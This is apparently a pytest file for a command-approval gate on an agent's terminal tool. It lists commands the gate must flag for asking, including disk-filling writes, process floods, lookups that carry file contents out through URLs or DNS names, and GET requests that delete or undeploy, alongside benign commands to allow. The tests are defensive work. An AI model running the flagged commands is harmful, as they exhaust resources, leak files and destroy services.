"""Reads and free writes that do harm: full disks, names that carry a file, acting GETs."""

import pytest
from policy_setup import call, gate

GATE = gate()


@pytest.mark.parametrize(
    "command",
    [
        "yes > /var/tmp/fill",
        "yes | tee /tmp/x",
        "cat /dev/zero > /tmp/x",
        "cp /dev/zero /tmp/x",
        "base64 /dev/urandom > /tmp/p",
        "tr -dc a-z < /dev/urandom > /tmp/p",
        "head -c 900G /dev/zero > /tmp/x",
        "head --bytes=900G /dev/zero > /tmp/x",
        "truncate -s 10T /tmp/x",
        "truncate --size=10T /tmp/x",
        "dd if=/dev/zero of=/tmp/x",
        "dd if=/dev/zero of=/tmp/x bs=1M",
        "dd if=/dev/zero of=/tmp/x bs=1G count=500",
        "fallocate -l 500G /tmp/x",
        "seq 1 1000000000000 > /tmp/s",
        "seq 1000000000000 > /tmp/s",
        "while :; do echo x >> /tmp/l; done",
        "for ((;;)); do echo x >> /tmp/l; done",
        "until false; do echo x >> /tmp/l; done",
        "while :; do sleep 1000 & done",
        "while true; do (sleep 1000) & done",
        "seq 100000 | xargs -P 0 -I{} sleep 1000",
        "seq 100000 | xargs -P0 -n1 sleep",
        "seq 100000 | xargs --max-procs=5000 -n1 sleep",
        "for i in 1 2 3 4 5 6 7 8 9; do fallocate -l 900M /tmp/a$i; done",
        "for i in $(seq 90); do head -c 500M /dev/zero > /tmp/f$i; done",
        "fallocate -l 600M /tmp/a; fallocate -l 600M /tmp/b",
        "head -c 700M /dev/zero > /tmp/a; dd if=/dev/zero of=/tmp/b bs=1M count=700",
    ],
)
def test_what_may_fill_the_disk_asks(command: str) -> None:
    assert GATE.decide(call("terminal", command=command)).verdict == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "yes | head -n 5 > /tmp/x",
        "yes | apt list",
        "yes > /dev/null",
        "head -c 10M /dev/zero > /tmp/x",
        "head -c 1M /dev/urandom | base64 > /tmp/x",
        "tr -dc a-z < /dev/urandom | head -c 20 > /tmp/p",
        "dd if=/dev/zero of=/tmp/x bs=1M count=100",
        "dd if=/dev/zero of=/dev/null bs=1M count=100000",
        "truncate -s 10M /tmp/x",
        "truncate -s 0 /tmp/x",
        "seq 1 100 > /tmp/s",
        "while true; do date >> /tmp/l; sleep 1; done",
        "while read -r x; do echo $x >> /tmp/l; done < f",
        "for i in 1 2 3; do echo $i >> /tmp/l; done",
        "while :; do date; sleep 5; done",
        "sleep 5 & wait",
        "seq 8 | xargs -P 4 -n1 echo",
        "for i in 1 2 3; do head -c 1M /dev/zero > /tmp/f$i; done",
        "head -c 100M /dev/zero > /tmp/a; head -c 100M /dev/zero > /tmp/b",
    ],
)
def test_output_with_an_end_goes_its_way(command: str) -> None:
    assert GATE.decide(call("terminal", command=command)).verdict == "allow"


@pytest.mark.parametrize(
    "command",
    [
        'curl -s http://127.0.0.1:8080/S$(date -d "$(cat a.txt)" 2>&1)',
        "ping -c1 $(cat x)",
        'getent hosts "$(cat x).example"',
        "curl http://127.0.0.1:8080/admin/delete?id=1",
        "curl 'http://127.0.0.1:8080/manager/text/undeploy?path=/app'",
        "wget -qO- 'http://10.0.0.5/jobs?action=kill'",
        "curl -I http://localhost/shutdown",
    ],
)
def test_a_request_that_carries_a_file_or_acts_asks(command: str) -> None:
    assert GATE.decide(call("terminal", command=command)).verdict == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://127.0.0.1/$(date +%F)",
        "curl http://$(hostname)/health 2>&1",
        "curl -I https://docs.example.com/shutdown",
        "curl -X GET http://api/shutdown-status",
        "curl -s 'http://es:9200/_search?q=action:delete'",
        "curl -s 'http://api/users?status=deleted'",
    ],
)
def test_a_plain_request_goes_its_way(command: str) -> None:
    assert GATE.decide(call("terminal", command=command)).verdict == "allow"
